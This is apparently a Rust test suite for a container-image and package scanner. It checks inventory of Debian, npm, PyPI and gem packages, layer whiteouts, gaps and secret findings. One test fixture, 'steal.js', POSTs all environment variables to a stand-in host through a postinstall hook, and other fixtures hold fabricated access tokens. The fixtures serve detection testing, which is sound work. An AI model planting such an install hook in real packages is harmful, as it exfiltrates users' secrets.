//! Images as tools write them: archives of `docker save`, OCI archives, single layers.

use sha2::{Digest as _, Sha256};
use tidegate_inspect::inventory::Component;
use tidegate_inspect::{Budgets, Inspection, Request, TemporaryFiles, Verdict, inspect};

use crate::support::{gzip, tar};

const DEBIAN: &[u8] = b"PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_ID=\"12\"\n";

fn look(name: &str, bytes: &[u8]) -> Inspection {
    let request = Request { name: name.to_owned(), ..Request::default() };
    inspect(&request, bytes, &Budgets::default(), &TemporaryFiles::default())
}

fn look_as_layer(bytes: &[u8]) -> Inspection {
    let request = Request { name: "l".to_owned(), layer: true, ..Request::default() };
    inspect(&request, bytes, &Budgets::default(), &TemporaryFiles::default())
}

fn sha256(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

fn zstd(content: &[u8]) -> Vec<u8> {
    zstd::encode_all(content, 1).unwrap()
}

fn status(packages: &[(&str, &str, &str)]) -> Vec<u8> {
    let one = |(name, version, source): &(&str, &str, &str)| {
        format!(
            "Package: {name}\nStatus: install ok installed\nArchitecture: amd64\nSource: {source}\nVersion: {version}\n\n"
        )
    };
    packages.iter().map(one).collect::<String>().into_bytes()
}

/// A credential that some rule certainly knows, put together here.
fn token() -> String {
    let body = "R7mQ2xW9tK4vZ8pL3nB6";
    format!("{}{}{body}{}", "gl", "pat-", "")
}

fn base() -> Vec<u8> {
    tar::archive(&[
        tar::file("etc/os-release", DEBIAN),
        tar::file(
            "var/lib/dpkg/status",
            &status(&[("libssl3", "3.0.11-1", "openssl"), ("gone", "1.0", "gone")]),
        ),
        tar::file("opt/deploy.env", format!("TOKEN={}\n", token()).as_bytes()),
        tar::member("usr/bin/editor", b'2', "/etc/alternatives/editor", b""),
    ])
}

fn upper() -> Vec<u8> {
    tar::archive(&[
        tar::file("var/lib/dpkg/status", &status(&[("libssl3", "3.0.13-1", "openssl")])),
        tar::file("opt/.wh.deploy.env", b""),
        tar::file("app/package.json", br#"{"name":"app","version":"1.0.0"}"#),
        tar::file("app/node_modules/left-pad/package.json", br#"{"name":"left-pad","version":"1.3.0"}"#),
        tar::file(
            "usr/lib/python3/dist-packages/requests-2.31.0.dist-info/METADATA",
            b"Metadata-Version: 2.1\nName: requests\nVersion: 2.31.0\n",
        ),
        tar::file(
            "var/lib/gems/3.1.0/specifications/rack-2.2.8.gemspec",
            b"Gem::Specification.new do |s|\n  s.name = \"rack\".freeze\n  s.version = \"2.2.8\"\n  s.licenses = [\"MIT\".freeze]\nend\n",
        ),
    ])
}

fn config(layers: &[&[u8]]) -> Vec<u8> {
    let ids: Vec<String> = layers.iter().map(|layer| format!("\"sha256:{}\"", sha256(layer))).collect();
    format!(
        r#"{{"architecture":"amd64","os":"linux","config":{{"User":"app","Env":["PATH=/bin","GL={}"],"Entrypoint":["/app"]}},
        "history":[{{"created_by":"COPY / /"}},{{"created_by":"RUN curl -H 'PRIVATE-TOKEN: {}' https://x.invalid"}}],
        "rootfs":{{"type":"layers","diff_ids":[{}]}}}}"#,
        token().replace('R', "S"),
        token().replace('R', "T"),
        ids.join(",")
    )
    .into_bytes()
}

/// What `docker save` writes.
fn saved() -> Vec<u8> {
    let (base, upper) = (base(), upper());
    let config = config(&[&base, &upper]);
    let name = format!("{}.json", sha256(&config));
    let manifest =
        format!(r#"[{{"Config":"{name}","RepoTags":["app:1"],"Layers":["a/layer.tar","b/layer.tar"]}}]"#);
    tar::archive(&[
        tar::file("a/layer.tar", &base),
        tar::file("b/layer.tar", &upper),
        tar::file(&name, &config),
        tar::file("manifest.json", manifest.as_bytes()),
    ])
}

/// How a layer is compressed.
type Pack = fn(&[u8]) -> Vec<u8>;

/// What tools write as an OCI archive, with a prefix for what a folder is packed under.
fn oci(prefix: &str, pack: &[Pack; 2]) -> Vec<u8> {
    let layers = [base(), upper()];
    let packed: Vec<Vec<u8>> = layers.iter().zip(pack).map(|(layer, pack)| pack(layer)).collect();
    let config = config(&[&layers[0], &layers[1]]);
    let descriptor = |bytes: &[u8], kind: &str| {
        format!(r#"{{"mediaType":"{kind}","digest":"sha256:{}","size":{}}}"#, sha256(bytes), bytes.len())
    };
    let list: Vec<String> =
        packed.iter().map(|layer| descriptor(layer, "application/vnd.oci.image.layer.v1.tar+x")).collect();
    let manifest = format!(
        r#"{{"schemaVersion":2,"config":{},"layers":[{}]}}"#,
        descriptor(&config, "application/vnd.oci.image.config.v1+json"),
        list.join(",")
    );
    let index = format!(
        r#"{{"schemaVersion":2,"manifests":[{}]}}"#,
        descriptor(manifest.as_bytes(), "application/vnd.oci.image.manifest.v1+json")
    );
    let blob = |bytes: &[u8]| format!("{prefix}blobs/sha256/{}", sha256(bytes));
    tar::archive(&[
        tar::file(&format!("{prefix}oci-layout"), br#"{"imageLayoutVersion":"1.0.0"}"#),
        tar::file(&format!("{prefix}index.json"), index.as_bytes()),
        tar::file(&blob(&packed[0]), &packed[0]),
        tar::file(&blob(&packed[1]), &packed[1]),
        tar::file(&blob(&config), &config),
        tar::file(&blob(manifest.as_bytes()), manifest.as_bytes()),
    ])
}

fn purls(inspection: &Inspection, beneath: bool) -> Vec<&str> {
    let wanted = |one: &&Component| one.beneath.is_some() == beneath;
    inspection.inventory.components.iter().filter(wanted).filter_map(|one| one.purl.as_deref()).collect()
}

#[track_caller]
fn is_the_image(seen: &Inspection, name: &str) {
    assert_eq!(
        purls(seen, false),
        [
            "pkg:deb/debian/libssl3@3.0.13-1?arch=amd64&distro=debian-12&upstream=openssl",
            "pkg:gem/rack@2.2.8",
            "pkg:npm/left-pad@1.3.0",
            "pkg:pypi/requests@2.31.0",
        ]
    );
    assert_eq!(
        purls(seen, true),
        [
            "pkg:deb/debian/gone@1.0?arch=amd64&distro=debian-12",
            "pkg:deb/debian/libssl3@3.0.11-1?arch=amd64&distro=debian-12&upstream=openssl",
        ]
    );
    assert_eq!(seen.inventory.subject, None);
    assert_eq!(seen.not_seen, []);
    let secrets: Vec<(&str, &str)> =
        seen.findings.iter().map(|f| (f.location.path.as_str(), f.message.as_str())).collect();
    let find = |end: &str| {
        secrets.iter().find(|(path, _)| path.ends_with(end)).unwrap_or_else(|| panic!("{secrets:#?}"))
    };
    let (path, message) = find("!/opt/deploy.env");
    assert!(path.starts_with(&format!("{name}!/layer 1 (sha256:")), "{path}");
    assert!(message.ends_with("; the file is deleted in layer 2, and it is still pulled"), "{message}");
    assert!(find("!/#history-1").0.starts_with(&format!("{name}!/config (sha256:")));
    find("!/#env-1");
    // Each once, and nothing else: links that begin at the root are natural in layers.
    assert_eq!(secrets.len(), 3, "{secrets:#?}");
    assert_eq!(seen.verdict, Verdict::Clean);
    let image = seen.image.as_ref().unwrap();
    assert_eq!(image.distro.as_ref().unwrap().name.as_deref(), Some("Debian GNU/Linux 12 (bookworm)"));
    assert_eq!(image.config.as_ref().unwrap().user.as_deref(), Some("app"));
    let layers: Vec<(u64, u64, u64)> =
        image.layers.iter().map(|l| (l.number, l.members, l.removes)).collect();
    assert_eq!(layers, [(1, 4, 0), (2, 6, 1)]);
}

#[test]
fn archives_of_docker_save() {
    is_the_image(&look("app.tar", &saved()), "app.tar");
    is_the_image(&look("app.tar.gz", &gzip(&saved())), "app.tar.gz");
}

#[test]
fn archives_and_folders_of_oci() {
    let same = |bytes: &[u8]| bytes.to_vec();
    is_the_image(&look("app.oci", &oci("", &[gzip, zstd])), "app.oci");
    is_the_image(&look("app.oci", &oci("./", &[same, gzip])), "app.oci");
    is_the_image(&look("app", &oci("package/", &[gzip, gzip])), "app");
}

#[test]
fn layers_are_put_together_from_what_was_stored_of_each() {
    use tidegate_inspect::images::{Blob, Parts, merge};
    let (base, upper) = (base(), upper());
    let config = config(&[&base, &upper]);
    let digests = [sha256(&base), sha256(&upper), sha256(&config)].map(|hex| format!("sha256:{hex}"));
    let stored = |inspection: Inspection| -> Inspection {
        serde_json::from_str(&serde_json::to_string(&inspection).unwrap()).unwrap()
    };
    let layers = [stored(look_as_layer(&gzip(&base))), stored(look_as_layer(&zstd(&upper)))];
    let config = stored(look("c", &config));
    assert!(layers.iter().all(|layer| layer.layer.is_some() && layer.inventory.subject.is_none()));
    let parts = Parts {
        config: Some(Blob { digest: &digests[2], seen: Ok(&config) }),
        layers: layers.iter().zip(&digests).map(|(seen, digest)| Blob { digest, seen: Ok(seen) }).collect(),
    };
    is_the_image(&merge("app", &[parts]), "app");
}

#[test]
fn a_layer_of_nothing_is_no_gap() {
    let nothing = vec![0; 1024];
    for bytes in [nothing.clone(), gzip(&nothing)] {
        let seen = look_as_layer(&bytes);
        assert!(seen.layer.is_some() && seen.not_seen.is_empty(), "{:?}", seen.not_seen);
    }
    // What is no archive at all is none.
    assert!(look_as_layer(b"text").layer.is_none());
}

#[test]
fn a_package_is_no_layer() {
    let package = |files: &[(&str, &[u8])]| {
        let members: Vec<_> = files.iter().map(|(name, bytes)| tar::file(name, bytes)).collect();
        gzip(&tar::archive(&members))
    };
    let own = ("package/package.json", &br#"{"name":"a","version":"1.0.0"}"#[..]);
    for extra in [("etc/os-release", DEBIAN), ("usr/x", b"x"), (".wh.x", b"")] {
        let seen = look("a-1.0.0.tgz", &package(&[own, extra]));
        assert!(seen.layer.is_none(), "{extra:?}");
        assert_eq!(seen.inventory.subject.and_then(|own| own.purl).as_deref(), Some("pkg:npm/a@1.0.0"));
    }
    assert!(look("a.tar.gz", &package(&[("a-1.0/setup.py", b"x = 1\n")])).layer.is_none());
}

#[test]
fn layers_that_are_missing_or_damaged_are_gaps() {
    let whole = saved();
    // Cut within the second layer.
    let cut = &whole[..whole.len() / 2];
    let seen = look("app.tar", cut);
    assert!(!seen.not_seen.is_empty());
    let manifest = br#"[{"Config":"c.json","Layers":["a/layer.tar","b/layer.tar"]}]"#;
    let archive = tar::archive(&[tar::file("a/layer.tar", &base()), tar::file("manifest.json", manifest)]);
    let seen = look("app.tar", &archive);
    let gaps: Vec<&str> = seen.not_seen.iter().map(|gap| gap.path.as_str()).collect();
    assert_eq!(gaps, ["app.tar!/layer 2 (b/layer.tar)"]);
    assert_eq!(purls(&seen, false).len(), 2);
}

#[test]
fn an_account_without_a_distribution_says_so_by_its_package_url() {
    let layer = tar::archive(&[tar::file("var/lib/dpkg/status", &status(&[("a", "1", "a")]))]);
    assert_eq!(purls(&look_as_layer(&layer), false), ["pkg:deb/a@1?arch=amd64"]);
}

#[test]
fn what_code_does_is_judged_outside_of_layers_only() {
    let steals = b"const h=require('https');const r=h.request({host:'collect.invalid',method:'POST'});r.write(JSON.stringify(process.env));r.end();\n";
    let manifest = br#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node steal.js"}}"#;
    let layer = tar::archive(&[
        tar::file("srv/package.json", manifest),
        tar::file("srv/steal.js", steals),
        tar::file("etc/os-release", DEBIAN),
    ]);
    assert_eq!(look_as_layer(&layer).verdict, Verdict::Clean);
    // A package that pretends to be an archive of images stays one.
    let package = tar::archive(&[
        tar::file("package/oci-layout", b"{}"),
        tar::file("package/blobs/sha256/aa", b"x"),
        tar::file("package/package.json", manifest),
        tar::file("package/steal.js", steals),
    ]);
    assert_eq!(look("a-1.0.0", &package).verdict, Verdict::Malicious);
}

#[test]
fn a_system_that_holds_numbers_may_hold_programs() {
    let numbers = b"\x80\x04\x95\x09\x00\x00\x00\x00\x00\x00\x00]\x94(K\x01K\x02e.";
    let program = [b"\x7fELF\x02\x01\x01".as_slice(), &[0; 121]].concat();
    let files = [
        tar::file("usr/lib/python3/test/data.pkl", numbers),
        tar::file("usr/bin/python3", &program),
        tar::file("etc/os-release", DEBIAN),
    ];
    let programs = |seen: &Inspection| seen.findings.iter().filter(|f| f.detector == "model/program").count();
    for seen in [look_as_layer(&tar::archive(&files)), look("rootfs.tar", &tar::archive(&files))] {
        assert_eq!((seen.verdict, programs(&seen)), (Verdict::Clean, 0), "{:?}", seen.findings);
    }
    let image = {
        let layer = tar::archive(&files);
        let config = config(&[&layer]);
        let name = format!("{}.json", sha256(&config));
        let manifest = format!(r#"[{{"Config":"{name}","RepoTags":["app:1"],"Layers":["a/layer.tar"]}}]"#);
        look(
            "app.tar",
            &tar::archive(&[
                tar::file("a/layer.tar", &layer),
                tar::file(&name, &config),
                tar::file("manifest.json", manifest.as_bytes()),
            ]),
        )
    };
    assert_eq!((image.verdict, programs(&image)), (Verdict::Clean, 0), "{:?}", image.findings);
    // A model is no system: a program beside its numbers is told.
    let model = tar::archive(&[tar::file("model/data.pkl", numbers), tar::file("model/run", &program)]);
    assert_eq!(programs(&look("model.tar", &model)), 1);
}
